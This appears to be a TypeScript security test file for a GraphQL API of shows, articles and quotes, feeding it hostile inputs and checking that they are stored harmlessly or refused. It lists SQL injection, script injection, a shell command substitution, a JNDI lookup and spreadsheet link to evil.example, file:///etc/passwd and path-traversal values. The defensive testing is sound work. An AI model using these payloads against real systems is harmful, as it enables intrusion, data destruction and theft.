import { cursorOf } from '../../../src/graphql/cursors.ts'
import { publicId } from '../../../src/graphql/ids.ts'
import type { Attack } from '../attack.ts'
import { QUIET_SHOW, SHOW } from '../record.ts'
import { PROBLEM } from '../../support/mutations.ts'
import { answered, either, harmless, refused } from '../verdicts.ts'

/** Texts that have a meaning to some machine; to a record they are words. */
const PAYLOADS: readonly [string, string][] = [
  ['SQL', `'; DROP TABLE shows; --`],
  ['SQL that waits', `' || pg_sleep(10) || '`],
  ['a script', `<script>alert(document.cookie)</script><img src=x onerror=alert(1)>`],
  ['a template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}'],
  ['a shell command', '$(reboot) `reboot`; reboot | reboot'],
  ['a format', '%s%s%s%n %x {0} %%'],
  ['a formula', '=HYPERLINK("http://evil.example","a")'],
  ['a line of a log', 'a\r\n{"level":60,"msg":"FORGED"}\r\nFORGED'],
  ['a colour of the terminal', '\u001b[2J\u001b[31mFORGED\u0007'],
  ['writing from right to left', '\u202Eevil\u2066\u2069\u200B\uFEFF'],
  ['letters of many marks', `Z${'\u0301\u0323'.repeat(500)}`],
  ['signs for "like"', '%_%\\_%'],
  ['a look-up in a directory', '${jndi:ldap://evil.example/a}']
]

const READ = `query ($t: String!, $l: [String!]) {
  bySlug: show(by: { slug: $t }) { id }
  byNumber: show(by: { imdb: $t }) { id }
  season: installment(by: { season: { show: $t, number: 1 } }) { id }
  speaker(by: { slug: $t }) { id }
  event(by: { slug: $t }) { id }
  article(by: { slug: $t }) { id }
  outlet(by: { slug: $t }) { id }
  shows(filter: { tags: $l, genres: $l }) { nodes { id } }
  articles(filter: { tags: $l }) { nodes { id } }
}`

const WRITE = `mutation ($a: RecordArticleInput!) { recordArticle(input: $a) {
  ... on RecordArticlePayload { article { headline body summary byline categories sections tags } } ${PROBLEM} } }`

const QUOTE = `mutation ($q: RecordQuoteInput!) { recordQuote(input: $q) {
  ... on RecordQuotePayload { quote { text parts { tag } prompt translation attribution citations { wording relayedVia } } } ${PROBLEM} } }`

const nothing = (data: Record<string, unknown>) => Object.values(data).every((value) => value === null || (value as { nodes?: unknown[] }).nodes?.length === 0)

/** Stored and given back as it was, apart from what is folded or trimmed at the ends. */
const same = (text: string) => (data: { recordArticle: { article: { headline: string; body: string } } }) =>
  data.recordArticle.article.body.trim() === text.trim() && data.recordArticle.article.headline.trim() === text.trim()

const READING: Attack[] = PAYLOADS.map(([what, text]) => ({
  name: `${what} in every text that is looked up`,
  document: READ,
  variables: { t: text, l: [text] },
  expect: harmless(nothing)
}))

const WRITING: Attack[] = PAYLOADS.map(([what, text], at) => ({
  name: `${what} in every text of an article`,
  document: WRITE,
  key: true,
  variables: { a: { headline: text, body: text, summary: text, byline: [text], categories: [text], sections: [text], tags: [text], slug: `attacked-${at}` } },
  expect: either(answered(same(text)), refused(/input/))
}))

const QUOTING: Attack[] = PAYLOADS.slice(0, 4).map(([what, text], at) => ({
  name: `${what} in every text of a quote`,
  document: QUOTE,
  key: true,
  variables: {
    q: {
      kind: 'DIRECT', parts: [{ text, tag: text }], prompt: text, translation: text, attribution: text,
      about: [{ show: QUIET_SHOW }], citations: [{ article: `attacked-${at}`, wording: text, relayedVia: text }]
    }
  },
  expect: either(answered((data) => data.recordQuote.quote.text === text), refused(/input/))
}))

const article = (input: object) => ({ document: `mutation ($a: RecordArticleInput!) { recordArticle(input: $a) { ... on RecordArticlePayload { article { headline canonicalUrl } } ${PROBLEM} } }`, key: true, variables: { a: { headline: 'A Piece', publish: false, ...input } } })

const INPUTS: Attack[] = [
  { name: 'an address that is a script', ...article({ canonicalUrl: 'javascript:alert(1)' }), expect: refused(/canonicalUrl/) },
  { name: 'an address that is data', ...article({ canonicalUrl: 'data:text/html,<script>alert(1)</script>' }), expect: refused(/canonicalUrl/) },
  { name: 'an address of a file', ...article({ canonicalUrl: 'file:///etc/passwd' }), expect: refused(/canonicalUrl/) },
  { name: 'an address with a password', ...article({ canonicalUrl: 'https://user:password@example.org/' }), expect: harmless() },
  { name: 'a slug that is a path', ...article({ slug: '../../admin' }), expect: refused(/slug/) },
  { name: 'a language that is none', ...article({ language: 'x'.repeat(5000) }), expect: refused(/language/) },
  { name: 'a headline of 900,000 characters', ...article({ headline: 'a'.repeat(900_000) }), expect: refused(/headline/) },
  { name: 'a body of 900,000 characters', ...article({ body: '# a\n'.repeat(225_000) }), expect: harmless() },
  { name: '20,000 tags', ...article({ tags: Array.from({ length: 20_000 }, (_, at) => `t${at}`) }), expect: refused(/tags|list|items|values/i) },
  { name: 'a date of 100,000 characters', ...article({ published: { edtf: '2024-'.repeat(20_000) } }), expect: refused(/published|edtf|date/i) }
]

const KEY = '0195162e-7a00-7000-8000-000000000001'
const base64 = (text: string | Buffer) => Buffer.from(text).toString('base64')
const IDS: readonly [string, string][] = [
  ['with SQL', base64(`Show:' OR '1'='1`)],
  ['of another kind', publicId('Speaker', KEY)],
  ['of no kind', base64(`constructor:${KEY}`)],
  ['of a table', base64(`pg_shadow:${KEY}`)],
  ['of a version of a show', base64(`Show:${KEY}@1`)],
  ['of a version beyond all', base64(`Quote:${KEY}@99999999999999999999`)],
  ['in bytes that are no UTF-8', base64(Buffer.from([0x53, 0x68, 0xff, 0xfe, 0x00, 0xc0]))],
  ['of 30,000 characters', base64('Show:'.repeat(5000))],
  ['with a NUL character', base64('Show:\u0000')]
]

const CURSORS: readonly [string, string][] = [
  ['that was made up', 'MQ=='],
  ['of another connection', cursorOf({ name: 'speakers', order: 'asc' }, 'a')],
  ['with SQL for a key', cursorOf({ name: 'shows', order: 'asc' }, `' OR 1=1; --`)],
  ['with a key of 2,900 characters', cursorOf({ name: 'shows', order: 'asc' }, 'x'.repeat(2900))],
  ['with a NUL character in its key', cursorOf({ name: 'shows', order: 'asc' }, 'a\u0000b')],
  ['of 900,000 characters', 'QQ'.repeat(450_000)],
  ['in bytes that are no UTF-8', base64(Buffer.from([0x76, 0x31, 0x3a, 0xff, 0xfe]))]
]

const FORGED: Attack[] = [
  ...IDS.map(([what, id]) => ({ name: `an id ${what}`, document: 'query ($i: ID!, $l: [ID!]) { show(by: { id: $i }) { id } articles(filter: { shows: $l }) { totalCount } }', variables: { i: id, l: [id] }, expect: harmless((data: { show: unknown }) => data.show === null) })),
  { name: 'forged ids in a change', document: `mutation ($i: ID!) { withdraw(input: { id: $i, reason: "Because." }) { ... on WithdrawPayload { change { id } } ${PROBLEM} } }`, key: true, variables: { i: base64(`Show:' OR '1'='1`) }, expect: refused(/id/i) },
  ...CURSORS.map(([what, cursor]) => ({ name: `a cursor ${what}`, document: 'query ($c: String) { shows(after: $c) { nodes { id } } }', variables: { c: cursor }, expect: harmless() }))
]

const moments = ['9999-12-31', '0000-00-00', '-1000-01-01', '1799-12-31', '+275760-09-13', '2025-02-29', '2024-06-30T24:00:00Z', '2024-06-30T23:59:60Z', '2024-01-01T00:00:00+99:99', '٢٠٢٤-٠١-٠١', '', ' ', '2024-01-01\u0000', 'now', 'infinity', '1'.repeat(100_000)]

const DATES: Attack[] = moments.map((text) => ({
  name: `the date ${JSON.stringify(text.slice(0, 30))}`,
  document: 'query ($d: Date, $t: DateTime) { renewalBoard(asOf: $d, knownAt: $t, first: 1) { nodes { status { state } } } }',
  variables: { d: text, t: text },
  expect: refused(/asOf|knownAt|date|day|moment|NUL/i)
}))

export const DATA: Attack[] = [...READING, ...WRITING, ...QUOTING, ...INPUTS, ...FORGED, ...DATES, {
  name: 'all of that: the record is as it was',
  document: `{ show(by: { slug: "${SHOW}" }) { title } shows { totalCount } speakers { totalCount } }`,
  expect: answered((data) => data.show.title === 'The Tide Tables' && data.speakers.totalCount > 0)
}]
